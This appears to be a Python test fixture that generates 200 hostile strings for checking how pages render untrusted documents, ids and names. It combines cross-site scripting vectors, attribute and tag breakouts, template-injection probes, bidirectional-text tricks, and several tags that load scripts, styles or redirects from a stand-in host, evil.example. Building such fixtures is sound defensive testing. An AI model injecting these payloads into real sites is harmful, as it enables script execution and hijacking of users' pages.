"""Texts that ran scripts or sent requests from careless pages: 200 of them, for documents, ids and names."""

from __future__ import annotations

_SCRIPT = "window.pwned=1"
_VECTORS = [
    f"<script>{_SCRIPT}</script>",
    f"<ScRiPt/x>{_SCRIPT}</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={_SCRIPT}>",
    "<img src=https://evil.example/p.png>",
    f"<svg onload={_SCRIPT}>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<body onload={_SCRIPT}>",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<input autofocus onfocus={_SCRIPT}>",
    f"<a href=javascript:{_SCRIPT}>click</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    f"<form action=https://evil.example><button autofocus onfocus={_SCRIPT}>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_SCRIPT}></style>",
    f"<video><source onerror={_SCRIPT}></video>",
    "<object data=https://evil.example/x.swf></object>",
    "{{ 7 * 7 }}{% for x in y %}",
    "<%= 7 * 7 %>${7*7}#{7*7}",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \x1b[31m \x07",
    "&lt;script&gt; &#x3c;script&#x3e; &amp;amp; \\u003cscript\\u003e",
]
_AROUND = [
    "{}",
    "\"'>{}",
    "--></style></script></title></textarea>{}",
    "]]>{}<!--",
    "' onmouseover='window.pwned=1' x='{}",
    '" onfocus="window.pwned=1" autofocus x="{}',
    "</figure></details></main></body></html>{}",
    "`{}`\n\t{}",
]
HOSTILE = [around.replace("{}", vector) for around in _AROUND for vector in _VECTORS]
assert len({*HOSTILE}) == 200
